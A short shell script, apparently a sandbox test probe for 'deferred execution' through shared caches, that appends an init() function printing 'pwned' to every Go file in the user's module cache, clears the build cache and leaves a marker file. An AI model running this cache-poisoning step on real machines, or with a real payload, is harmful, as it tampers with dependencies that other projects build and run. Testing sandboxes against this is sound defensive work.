#!/bin/sh
# family: deferred execution (shared caches)
# needs: go
# env: GOFLAGS=-mod=mod
# An edited module in the user's module cache would run in another project's build.
m=$(go env GOMODCACHE)
for f in $(find "$m" -name '*.go' 2>/dev/null); do
  chmod u+w "$f" "$(dirname "$f")" 2>&1
  printf '\nfunc init() { println("pwned") }\n' >> "$f" 2>&1
done
go clean -cache 2>&1
touch "$m/cache/pwned" 2>&1
exit 0
